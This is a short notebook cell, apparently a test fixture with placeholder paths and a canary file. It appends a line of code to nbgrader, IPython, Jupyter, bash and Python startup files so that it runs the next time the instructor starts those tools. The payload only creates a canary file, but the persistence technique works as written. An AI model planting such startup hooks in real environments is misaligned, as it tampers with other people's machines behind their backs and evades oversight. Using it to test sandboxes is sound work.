# %% [markdown] says="norm"
# A cell leaves code for the instructor's next start of nbgrader, IPython and Python.

# %%
import os
import pathlib
import site
import sys

code = "open('@CANARY@', 'w').close()\n"
places = [
    "@ROOT@/nbgrader_config.py",
    "@ROOT@/course_lib.py",
    os.path.expanduser("~/.ipython/profile_default/startup/00.py"),
    os.path.expanduser("~/.jupyter/jupyter_config.py"),
    os.path.expanduser("~/.bashrc"),
    *(os.path.join(path, "usercustomize.py") for path in [site.getusersitepackages(), *sys.path] if path),
]
for place in places:
    try:
        pathlib.Path(place).parent.mkdir(parents=True, exist_ok=True)
        with open(place, "a") as file:
            file.write(code)
    except OSError:
        pass
